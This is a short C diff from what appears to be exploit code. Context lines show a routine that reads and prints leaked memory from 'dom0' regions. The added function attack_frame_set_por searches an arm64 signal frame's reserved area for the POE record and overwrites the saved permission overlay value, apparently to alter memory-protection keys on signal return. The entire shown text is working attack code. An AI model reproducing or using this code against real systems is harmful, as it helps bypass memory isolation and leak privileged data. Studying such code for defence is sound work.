@@ -237,3 +237,23 @@ void attack_exploit_reads(ssize_t (*read_fn)(void *dst, uint64_t src, size_t len
 			attack_show_leak(buf, (size_t)got, attack_dom0[i].start);
 	}
 }
+
+int attack_frame_set_por(unsigned char *reserved, size_t reserved_size, uint64_t por)
+{
+	const uint32_t poe_magic = 0x504f4530; /* uapi asm/sigcontext.h, Linux 6.12 */
+
+	for (size_t off = 0; off + 8 <= reserved_size;) {
+		uint32_t magic, size;
+
+		memcpy(&magic, reserved + off, 4);
+		memcpy(&size, reserved + off + 4, 4);
+		if (magic == 0 || size < 8)
+			break;
+		if (magic == poe_magic) {
+			memcpy(reserved + off + 8, &por, 8);
+			return 0;
+		}
+		off += size;
+	}
+	return -1;
+}
